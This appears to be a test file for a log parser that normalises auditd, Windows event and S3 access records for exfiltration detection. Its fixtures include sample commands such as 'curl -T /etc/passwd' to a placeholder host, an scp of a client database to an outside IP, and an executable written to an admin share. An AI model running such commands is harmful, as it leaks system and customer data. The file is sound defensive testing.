import { describe, expect, it } from 'vitest';
import { parseRecord, parseText } from '../parse.js';
import { parseAuditFields } from './auditd.js';
import { splitAccessLine } from './s3-access.js';
import { INGEST, one } from './test-support.js';

describe('auditd', () => {
  it('joins the records of one event by serial, decoding hex fields', async () => {
    const hex = Buffer.from('scp\0/home/li/clients.db\0li@203.0.113.5:/tmp/').toString('hex').toUpperCase();
    const log = [
      'type=SYSCALL msg=audit(1768377600.123:4242): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts0 ses=3 comm="scp" exe="/usr/bin/scp" key="exfil"',
      'type=SYSCALL msg=audit(1768377601.000:4243): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=5 a2=241 a3=1b6 items=1 ppid=10 pid=12 auid=1000 uid=1000 comm="cp" exe="/usr/bin/cp" key=(null)',
      'type=EXECVE msg=audit(1768377600.123:4242): argc=3 a0="scp" a1="/home/li/clients.db" a2="li@203.0.113.5:/tmp/"',
      'type=CWD msg=audit(1768377600.123:4242): cwd="/home/li"',
      'type=PATH msg=audit(1768377601.000:4243): item=0 name="/media/li/USB/clients.db" inode=5 nametype=CREATE',
      `type=PROCTITLE msg=audit(1768377600.123:4242): proctitle=${hex}`,
      'type=EOE msg=audit(1768377600.123:4242): ',
      'type=EOE msg=audit(1768377601.000:4243): ',
    ].join('\n');
    const r = await parseText(log, { ingestTime: INGEST });
    expect(r.info).toMatchObject({ format: 'auditd', framing: 'auditd' });
    expect(r.deadLetters).toEqual([]);
    const [scp, usb] = r.events;
    expect(scp).toMatchObject({
      id: 'auditd:-:1768377600.123:4242',
      time: 1768377600123,
      action: 'execve',
      channel: 'network',
      actor: { user: 'uid:1000', service: '/usr/bin/scp' },
      outcome: 'success',
      attributes: { command: 'scp /home/li/clients.db li@203.0.113.5:/tmp/', transfer_tool: 'scp', key: 'exfil', cwd: '/home/li' },
    });
    expect(usb).toMatchObject({ action: 'openat', channel: 'removable_media', object: { path: '/media/li/USB/clients.db' }, destination: { device: '/media/li/USB' }, attributes: { access: 'write' } });
  });

  it('reads enriched (AUID="name") and auoms records', () => {
    const e = one('auditd', 'type=SYSCALL msg=audit(1768377600.5:9): arch=c000003e syscall=2 success=no exit=-13 a0=1 a1=0 auid=1001 uid=1001 comm="cat" exe="/bin/cat"\x1dAUID="zhangsan" UID="zhangsan"');
    expect(e).toMatchObject({ actor: { user: 'zhangsan' }, channel: 'read', outcome: 'failure' });
    const row = { Computer: 'web01', SyslogMessage: 'type=AUOMS_EXECVE audit(1652292621.986:84138): syscall=execve success=yes auid=4294967295 user=tomcat uid=1001 exe="/usr/bin/curl" cwd="/" path_name=["/usr/bin/curl"] proctitle=curl -T /etc/passwd https://x.example redactors= containerid=' };
    expect(one('auto', row)).toMatchObject({ source: 'auditd', tenant: 'web01', actor: { user: 'tomcat' }, channel: 'network', attributes: { transfer_tool: 'curl', command: 'curl -T /etc/passwd https://x.example' } });
  });

  it('splits fields with quotes, single-quoted msg and arrays', () => {
    const f = parseAuditFields(`pid=1 msg='op=PAM:session_open acct="root" exe="/usr/sbin/sshd" res=success' a=["x y","z"]`);
    expect(Object.fromEntries(f)).toMatchObject({ pid: '1', op: 'PAM:session_open', acct: 'root', res: 'success', a: '["x y","z"]' });
  });

  it('dead-letters a line that is not an audit record and keeps the rest', async () => {
    const r = await parseText('type=USER_LOGIN msg=audit(1768377600.0:1): pid=1 uid=0 auid=1000 msg=\'op=login acct="li" exe="/usr/sbin/sshd" addr=198.51.100.7 res=failed\'\ngarbage line\n', { ingestTime: INGEST });
    expect(r.events).toHaveLength(1);
    expect(r.events[0]).toMatchObject({ channel: 'login', outcome: 'failure', actor: { ip: '198.51.100.7' } });
    expect(r.deadLetters).toEqual([expect.objectContaining({ code: 'EVENTS_PARSE_FAILED', line: 2 })]);
  });
});

describe('Windows events as JSON', () => {
  it('read EVTX JSON (System/EventData): 6416 of a disk drive is removable media', () => {
    const e = one('auto', {
      System: { Provider: { Name: 'Microsoft-Windows-Security-Auditing' }, EventID: { '#text': '6416' }, TimeCreated: { SystemTime: '2026-01-14 03:04:05.678901' }, EventRecordID: '9001', Channel: 'Security', Computer: 'PC-LI.corp.example' },
      EventData: { SubjectUserName: 'li', SubjectDomainName: 'CORP', DeviceId: 'USBSTOR\\DISK&VEN_SANDISK&PROD_ULTRA\\4C530001', DeviceDescription: 'SanDisk Ultra USB Device', ClassName: 'DiskDrive', VendorIds: 'USBSTOR\\DiskSanDisk' },
    });
    expect(e).toMatchObject({
      id: 'windows:pc-li.corp.example:security:9001',
      time: Date.UTC(2026, 0, 14, 3, 4, 5, 678),
      action: '6416',
      channel: 'removable_media',
      actor: { user: 'corp\\li' },
      destination: { device: 'USBSTOR\\DISK&VEN_SANDISK&PROD_ULTRA\\4C530001' },
      attributes: { device_class: 'DiskDrive', mass_storage: true },
    });
  });

  it('read evtx_dump and Winlogbeat renderings: 4663 writes on removable storage', () => {
    const dump = one('auto', {
      Event: {
        System: { EventID: 4663, Task: 12812, TimeCreated: { '#attributes': { SystemTime: '2026-01-14T03:10:00.000000Z' } }, EventRecordID: 77, Channel: 'Security', Computer: 'pc1', Provider: { '#attributes': { Name: 'Microsoft-Windows-Security-Auditing' } } },
        EventData: { SubjectUserName: 'li', SubjectDomainName: 'CORP', ObjectType: 'File', ObjectName: '\\Device\\HarddiskVolume7\\clients.xlsx', AccessMask: '0x2', ProcessName: 'C:\\Windows\\explorer.exe' },
      },
    });
    expect(dump).toMatchObject({ channel: 'removable_media', object: { path: '\\Device\\HarddiskVolume7\\clients.xlsx', kind: 'file' }, attributes: { access: 'write', removable: true, process: 'C:\\Windows\\explorer.exe' } });
    const beat = one('auto', { '@timestamp': '2026-01-14T03:11:00.000Z', event: { code: '4663' }, winlog: { event_id: 4663, record_id: 78, computer_name: 'pc1', channel: 'Security', provider_name: 'Microsoft-Windows-Security-Auditing', event_data: { SubjectUserName: 'li', ObjectType: 'File', ObjectName: 'C:\\share\\a.docx', AccessMask: '0x1' } } });
    expect(beat).toMatchObject({ channel: 'read', time: Date.UTC(2026, 0, 14, 3, 11) });
  });

  it('read NXLog rows, shifting local EventTime by the @timestamp offset', () => {
    const e = one('auto', { EventID: 5145, SourceName: 'Microsoft-Windows-Security-Auditing', Channel: 'security', Hostname: 'WS6.corp', RecordNumber: 933025, EventTime: '2020-09-22 14:53:30', EventReceivedTime: '2020-09-22 14:53:32', '@timestamp': '2020-09-22T18:53:32.341Z', SubjectUserName: 'pgustavo', SubjectDomainName: 'CORP', IpAddress: '172.18.39.5', ShareName: '\\\\*\\C$', ShareLocalPath: '\\??\\C:\\', RelativeTargetName: 'ProgramData\\x.exe', AccessMask: '0x2' });
    expect(e).toMatchObject({ time: Date.UTC(2020, 8, 22, 18, 53, 30), channel: 'write', object: { path: 'C:\\ProgramData\\x.exe' }, actor: { user: 'corp\\pgustavo', ip: '172.18.39.5' }, attributes: { share_name: '\\\\*\\C$', network_share: true } });
  });

  it('turn audit-log clearing into logging_change and printer 6416 into print', () => {
    expect(one('windows', { System: { EventID: 1102, TimeCreated: { SystemTime: '2026-01-14T00:00:00Z' }, Computer: 'dc1', EventRecordID: 5, Channel: 'Security', Provider: { Name: 'Microsoft-Windows-Eventlog' } }, UserData: { LogFileCleared: { SubjectUserName: 'admin' } } })).toMatchObject({ channel: 'logging_change', attributes: { logging_disabled: true } });
    expect(one('windows', { System: { EventID: 6416, TimeCreated: { SystemTime: '2026-01-14T00:00:00Z' }, Computer: 'fs', EventRecordID: 6, Channel: 'Security' }, EventData: { ClassName: 'PrintQueue', DeviceId: 'SWD\\PRINTENUM\\{X}' } }).channel).toBe('print');
  });

  it('reject a record without an EventID', () => {
    expect(parseRecord('windows', { System: { Computer: 'x' } }).error?.code).toBe('EVENTS_RECORD_INVALID');
  });
});

describe('S3 server access logs', () => {
  const line = '79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be acme-data [14/Jan/2026:02:13:04 +0000] 198.51.100.23 arn:aws:iam::111122223333:user/alice 3E57427F3EXAMPLE REST.GET.OBJECT exports/customers%20list.csv "GET /acme-data/exports/customers%20list.csv HTTP/1.1" 200 - 48213311 48213311 70 10 "-" "aws-cli/2.15.0" - s9lzHYrFp76ZVxRcpX9+5cjAnEH2ROuNkd2BHfIa6UkFVdtjf5mKR3/eTPFvsiP/XV/VLi31234= SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader acme-data.s3.us-west-1.amazonaws.com TLSv1.2 - -';

  it('splits the native line and turns a GET into a download with bytes', () => {
    expect(splitAccessLine(line).slice(0, 9)).toEqual(['79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be', 'acme-data', '[14/Jan/2026:02:13:04 +0000]', '198.51.100.23', 'arn:aws:iam::111122223333:user/alice', '3E57427F3EXAMPLE', 'REST.GET.OBJECT', 'exports/customers%20list.csv', 'GET /acme-data/exports/customers%20list.csv HTTP/1.1']);
    expect(one('auto', line)).toMatchObject({
      id: 's3access:3E57427F3EXAMPLE',
      time: Date.UTC(2026, 0, 14, 2, 13, 4),
      action: 'REST.GET.OBJECT',
      channel: 'download',
      actor: { user: 'arn:aws:iam::111122223333:user/alice', ip: '198.51.100.23' },
      object: { container: 'acme-data', path: 'exports/customers list.csv' },
      bytes: 48213311,
      outcome: 'success',
      attributes: { http_status: 200, tls_version: 'TLSv1.2' },
    });
  });

  it('treat "-" as an anonymous requester and 4xx as failure', () => {
    const anon = line.replace('arn:aws:iam::111122223333:user/alice', '-').replace(' 200 - ', ' 403 AccessDenied ');
    expect(one('s3access', anon)).toMatchObject({ actor: { user: 'anonymous' }, outcome: 'failure', attributes: { error_code: 'AccessDenied' } });
  });

  it('dead-letters a line that is not an access-log line', async () => {
    const r = await parseText(`${line}\nnot an access log line\n`, { ingestTime: INGEST });
    expect(r.events).toHaveLength(1);
    expect(r.deadLetters).toEqual([expect.objectContaining({ code: 'EVENTS_PARSE_FAILED', line: 2 })]);
  });
});
